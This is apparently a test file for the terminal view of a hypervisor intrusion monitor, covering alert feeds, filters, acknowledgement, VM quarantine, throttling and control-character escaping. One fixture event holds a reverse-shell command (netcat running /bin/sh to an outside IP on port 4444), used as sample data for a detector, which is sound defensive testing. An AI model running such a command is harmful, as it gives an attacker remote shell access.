// The live view over a MonitorState, rendered by ink-testing-library (100 columns, no rows: the
// narrow layout with the rules/VM panel below the feed).
import { cleanup, render } from "ink-testing-library";
import { afterEach, describe, expect, it, vi } from "vitest";
import type { Alert, Severity } from "../../src/events/alert.js";
import type { HvEvent } from "../../src/events/event.js";
import { makeEvent } from "../helpers/events.js";
import { MonitorState } from "../../src/cli/monitor-state.js";
import { MonitorView } from "../../src/cli/monitor-view.js";

let seq = 0;
function alert(title: string, severity: Severity, vm: string | undefined, extra: Partial<Alert> = {}): Alert {
  const n = ++seq;
  const t = new Date(Date.now() - 60_000 + n * 1000).toISOString();
  return {
    id: n,
    "@timestamp": t,
    first_seen: t,
    last_seen: t,
    count: 1,
    rule: { id: `rule-${n}-${title.toLowerCase().replace(/\W+/g, "-")}`, title, source: "sigma", description: `Fires on ${title}.` },
    severity,
    mitre: { tactics: ["execution"], techniques: ["T1059.004"] },
    entity: vm ? { kind: "vm", id: vm } : { kind: "host", id: "hv-host" },
    ...(vm ? { vm: { name: vm } } : {}),
    process: { pid: 4000 + n, executable: "/bin/sh", command_line: `sh -c step-${n}` },
    user: { id: "0", name: "root" },
    event_ids: [`audit::1800000000.${n}:${n}`, `audit::1800000001.${n}:${n + 100}`],
    status: "open",
    ...extra,
  };
}

/** Polls the last frame: the view re-renders on a timer (throttled), not on every change. */
async function frameWith(app: ReturnType<typeof render>, ...wanted: string[]): Promise<string> {
  const deadline = Date.now() + 3000;
  for (;;) {
    const f = app.lastFrame() ?? "";
    if (wanted.every((w) => f.includes(w))) return f;
    if (Date.now() > deadline) throw new Error(`frame never showed ${JSON.stringify(wanted)}; last frame:\n${f}`);
    await new Promise((r) => setTimeout(r, 20));
  }
}

/** Whether the alert feed (not the rules panel) has a row for this title. */
function inFeed(frame: string, title: string): boolean {
  return frame.split("\n").some((l) => new RegExp(`(CRIT|HIGH|MED|LOW|INFO)\\s+${title}`).test(l));
}

function linesOf(frame: string): string[] {
  return frame.split("\n");
}

afterEach(() => cleanup());

describe("monitor view", () => {
  it("shows alerts newest first, counts, VMs and sources; opens details; quits", async () => {
    const state = new MonitorState();
    state.addVm("idle-vm");
    const onQuit = vi.fn();
    const app = render(<MonitorView state={state} onQuit={onQuit} />);
    await frameWith(app, "hv monitor", "no alerts yet", "idle-vm");

    const a1 = alert("Reverse shell spawned", "critical", "web-1");
    const a2 = alert("Suspicious crontab edit", "high", "db-1");
    const a3 = alert("Shell history cleared", "medium", undefined);
    const a4 = alert("Package manager used", "low", "web-1");
    for (const a of [a1, a2, a3, a4]) state.addAlert(a, true);
    // a1 fires again: its count grows and it moves to the top.
    const a1b = { ...a1, count: 3, last_seen: new Date().toISOString(), event_ids: [...a1.event_ids, "audit::1800000009.9:999"] };
    state.addAlert(a1b, false);
    state.setSources([{ name: "audit:/var/log/audit/audit.log", events: 1234, eventsPerSec: 56, drops: 7, malformed: 0, lostSerials: 2 }], 1234);

    const f = await frameWith(app, "Reverse shell spawned", "Package manager used", "drops 7");
    const lines = linesOf(f);
    const row = (title: string): number => lines.findIndex((l) => l.includes(title));
    // newest first: a1 (updated last), then a4, a3, a2
    expect(row("Reverse shell spawned")).toBeLessThan(row("Package manager used"));
    expect(row("Package manager used")).toBeLessThan(row("Shell history cleared"));
    expect(row("Shell history cleared")).toBeLessThan(row("Suspicious crontab edit"));
    expect(lines[row("Reverse shell spawned")]).toMatch(/^.*> .*CRIT Reverse shell spawned ×3 vm=web-1/);
    expect(lines[row("Shell history cleared")]).toContain("host=hv-host");
    // counts by severity (a1's update is not a new alert)
    expect(f).toMatch(/critical 1 .*high 1 .*medium 1 .*low 1 .*info 0/);
    // header: events total and rate
    expect(f).toMatch(/events 1234 · 56\/s/);
    // per-VM rows: name, alerts, worst severity; a VM without alerts is ok
    expect(f).toMatch(/web-1\s+3 critical/);
    expect(f).toMatch(/db-1\s+1 high/);
    expect(f).toMatch(/idle-vm\s+0 ok/);
    // rules by detections: the rule that fired twice first
    expect(row("2 Reverse shell spawned")).toBeGreaterThan(-1);
    // sources with losses
    expect(f).toMatch(/audit:\/var\/log\/audit\/audit\.log 56\/s drops 7 malformed 0 lost 2/);

    // ↓ then Enter: the second alert in the feed (a4) in detail
    app.stdin.write("\u001B[B");
    await frameWith(app, "> ");
    await new Promise((r) => setTimeout(r, 50));
    expect(linesOf(app.lastFrame() ?? "").find((l) => l.includes("> "))).toContain("Package manager used");
    app.stdin.write("\r");
    const d = await frameWith(app, "event ids");
    expect(d).toContain(a4.rule.id);
    expect(d).toContain(a4.event_ids[0]);
    expect(d).toContain(a4.event_ids[1]);
    expect(d).toMatch(/severity\s+low/);
    expect(d).toMatch(/vm\s+web-1/);
    expect(d).toContain("T1059.004");
    expect(d).toContain("sh -c step-4");
    expect(d).toContain("root (uid 0)");
    expect(d).toContain("Fires on Package manager used.");
    expect(d).not.toContain("Alerts");

    // Esc returns to the feed, with the same alert still selected
    app.stdin.write("\u001B");
    const back = await frameWith(app, "Alerts", "Suspicious crontab edit");
    expect(linesOf(back).find((l) => l.includes("> "))).toContain("Package manager used");

    // ? shows the keys; any key returns
    app.stdin.write("?");
    await frameWith(app, "Keys", "quit");
    app.stdin.write("x");
    await frameWith(app, "Alerts");

    expect(onQuit).not.toHaveBeenCalled();
    app.stdin.write("q");
    await vi.waitFor(() => expect(onQuit).toHaveBeenCalledTimes(1));
  });

  it("keeps the selection on its alert as new ones arrive, and scrolls to keep it in sight", async () => {
    const state = new MonitorState();
    const app = render(<MonitorView state={state} onQuit={() => undefined} />);
    const all = Array.from({ length: 30 }, (_, i) => alert(`Rule number ${String(i).padStart(2, "0")}`, "medium", `vm-${i % 3}`));
    for (const a of all) state.addAlert(a, true);
    await frameWith(app, "Rule number 29");
    // j/k move too; go 12 rows down, past the bottom of the visible feed
    for (let i = 0; i < 12; i++) app.stdin.write("j");
    await new Promise((r) => setTimeout(r, 100));
    let f = await frameWith(app, "> ");
    expect(f.split("\n").find((l) => l.includes("> "))).toContain("Rule number 17");
    expect(f).not.toContain("Rule number 29");
    // a new alert at the top does not move the selection to another alert
    state.addAlert(alert("Brand new", "high", "vm-1"), true);
    await new Promise((r) => setTimeout(r, 400));
    f = app.lastFrame() ?? "";
    expect(f.split("\n").find((l) => l.includes("> "))).toContain("Rule number 17");
    app.stdin.write("k");
    await vi.waitFor(() => expect((app.lastFrame() ?? "").split("\n").find((l) => l.includes("> "))).toContain("Rule number 18"));
    expect(app.lastFrame()).toMatch(/critical 0 .*high 1 .*medium 30/);
  });

  it("re-renders at most a few times a second during an alert storm", async () => {
    const state = new MonitorState();
    const app = render(<MonitorView state={state} onQuit={() => undefined} />);
    await frameWith(app, "no alerts yet");
    const before = app.frames.length;
    const base = alert("Storm rule", "high", "vm-storm");
    const started = Date.now();
    for (let i = 0; i < 2000; i++) {
      state.addAlert({ ...base, count: i + 1 }, i === 0);
      if (i % 200 === 0) await new Promise((r) => setTimeout(r, 50));
    }
    const f = await frameWith(app, "Storm rule ×2000");
    const seconds = (Date.now() - started) / 1000;
    expect(f).toContain("vm=vm-storm");
    // 4 fps, plus the once-a-second clock and a little slack
    expect(app.frames.length - before).toBeLessThanOrEqual(Math.ceil(seconds * 5) + 4);
  });

  it("lists every VM with its state and quarantine, not only the VMs alerts named", async () => {
    const state = new MonitorState();
    state.setVms([
      { name: "web-1", state: "running", quarantined: true },
      { name: "db-1", state: "shut off", quarantined: false },
    ]);
    state.addAlert(alert("Reverse shell spawned", "critical", "web-1"), true);
    state.addAlert(alert("Old alert", "low", "gone-vm"), true);
    const app = render(<MonitorView state={state} onQuit={() => undefined} />);
    const f = await frameWith(app, "QUAR", "db-1");
    expect(f).toMatch(/web-1\s+1 critical QUAR running/);
    expect(f).toMatch(/db-1\s+0 ok shut off/);
    expect(f).toMatch(/gone-vm\s+1 low/);
    // The VM is released and stopped; db-1 is undefined (no alerts: its row goes).
    state.setVms([{ name: "web-1", state: "shut off", quarantined: false }]);
    const g = await frameWith(app, "web-1      1 critical shut off");
    expect(g).not.toContain("QUAR");
    expect(g).not.toContain("db-1");
  });

  it("acknowledges the selected alert (a), filters by severity (s) and VM (v), clears (c), opens its events (e)", async () => {
    const state = new MonitorState();
    const hi = alert("High on web", "high", "web-1");
    const lo = alert("Low on db", "low", "db-1");
    const host = alert("Medium on host", "medium", undefined);
    for (const a of [hi, lo, host]) state.addAlert(a, true);
    const acked: number[] = [];
    const ev = (id: string, cmd: string): HvEvent => ({ ...makeEvent(1), "@timestamp": "2026-05-01T10:00:00.000Z", event: { ...makeEvent(1).event, id, action: "execve" }, process: { pid: 1, command_line: cmd } });
    const actions = {
      ack: (a: Alert): string => {
        acked.push(a.id!);
        state.setAlertStatus(a.id!, "acked");
        return `alert #${a.id} acknowledged`;
      },
      events: (a: Alert): HvEvent[] => (a.id === hi.id ? [ev(hi.event_ids[0]!, "nc -e /bin/sh 203.0.113.9 4444")] : []),
    };
    const app = render(<MonitorView state={state} onQuit={() => undefined} actions={actions} />);
    await frameWith(app, "Medium on host", "High on web", "Low on db");

    // s: low+ (all three), then medium+ (the low one goes), then high+.
    app.stdin.write("s");
    await frameWith(app, "filter: low+");
    app.stdin.write("s");
    let f = await frameWith(app, "filter: medium+");
    expect(inFeed(f, "High on web")).toBe(true);
    expect(inFeed(f, "Low on db")).toBe(false);
    app.stdin.write("s");
    f = await frameWith(app, "filter: high+");
    expect(inFeed(f, "Medium on host")).toBe(false);
    expect(f).toMatch(/Alerts 1 of 3/);
    app.stdin.write("c");
    f = await frameWith(app, "Alerts 3 ·");
    expect(f).not.toContain("filter:");

    // v: each VM in turn (db-1, web-1), then the alerts about no VM.
    app.stdin.write("v");
    f = await frameWith(app, "filter: vm=db-1");
    expect(inFeed(f, "High on web")).toBe(false);
    app.stdin.write("v");
    f = await frameWith(app, "filter: vm=web-1");
    expect(f.split("\n").find((l) => l.includes("> "))).toContain("High on web");

    // a acknowledges the selected (only shown) alert.
    app.stdin.write("a");
    f = await frameWith(app, `alert #${hi.id} acknowledged`, "(acked)");
    expect(acked).toEqual([hi.id]);
    app.stdin.write("a");
    await frameWith(app, "already acknowledged");
    expect(acked).toEqual([hi.id]);

    // e: its stored events; esc back to the alert, esc to the feed.
    app.stdin.write("e");
    f = await frameWith(app, "Events of #", "nc -e /bin/sh 203.0.113.9 4444");
    expect(f).toContain("1 past retention");
    app.stdin.write("\u001B");
    await frameWith(app, "event ids");
    app.stdin.write("\u001B");
    await frameWith(app, "filter: vm=web-1");
    app.stdin.write("v");
    f = await frameWith(app, "filter: no VM");
    expect(inFeed(f, "Medium on host")).toBe(true);
    app.stdin.write("v");
    f = await frameWith(app, "Alerts 3 ·");
    expect(f).not.toContain("filter:");
  });

  it("without actions, a and e say what they need instead of failing", async () => {
    const state = new MonitorState();
    state.addAlert(alert("Some alert", "high", "web-1"), true);
    const app = render(<MonitorView state={state} onQuit={() => undefined} />);
    await frameWith(app, "Some alert");
    app.stdin.write("a");
    await frameWith(app, "acknowledging needs the store");
    app.stdin.write("e");
    await frameWith(app, "events need the store");
  });

  it("shows the latest note from the pipeline", async () => {
    const state = new MonitorState();
    const app = render(<MonitorView state={state} onQuit={() => undefined} />);
    state.note("store: database is locked");
    await frameWith(app, "! ", "store: database is locked");
  });

  it("shows the sinks that did not deliver, and nothing about those that did", async () => {
    const state = new MonitorState();
    const app = render(<MonitorView state={state} onQuit={() => undefined} />);
    state.setSinks([
      { name: "jsonl:/var/log/hv/alerts.jsonl", sent: 9, failed: 0, dropped: 0, queued: 0 },
      { name: "hook", sent: 0, failed: 1, dropped: 2, queued: 5, lastError: "connect ECONNREFUSED" },
    ]);
    const frame = await frameWith(app, "sinks ", "hook", "queued 5", "failed 1", "dropped 2", "ECONNREFUSED");
    expect(frame).not.toContain("jsonl:/var/log");
  });

  it("escapes control characters of alert text instead of letting them reach the terminal", async () => {
    const state = new MonitorState();
    const app = render(<MonitorView state={state} onQuit={() => undefined} />);
    state.addAlert(alert("Binary \u001b[2J\u001b]0;pwned\u0007 ran", "high", "web-\u009b1"), true);
    const frame = await frameWith(app, "Binary \\u001b[2J\\u001b]0;pwned\\u0007 ran");
    expect(frame).not.toContain("\u001b]0;");
    expect(frame).not.toContain("\u009b");
  });
});
